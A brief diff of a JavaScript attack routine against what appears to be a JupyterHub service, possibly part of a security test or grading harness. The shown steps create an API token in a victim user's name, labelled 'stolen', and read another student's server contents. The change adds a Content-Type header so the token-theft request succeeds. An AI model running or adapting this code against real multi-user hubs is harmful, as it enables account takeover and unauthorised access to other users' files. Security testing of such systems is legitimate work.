@@ -75,7 +75,7 @@ async function attack({ hub, grade, victim, neighbour, toss }) {
     "make a token in the victim's name": async () =>
       ask(`${hub}/hub/api/users/${victim}/tokens`, {
         method: "POST",
-        headers: { "X-XSRFToken": await token(`${hub}/hub/token`) },
+        headers: { "X-XSRFToken": await token(`${hub}/hub/token`), "Content-Type": "application/json" },
         body: JSON.stringify({ note: "stolen" }),
       }),
     "read another student's server": () => ask(`${neighbour}/api/contents`),
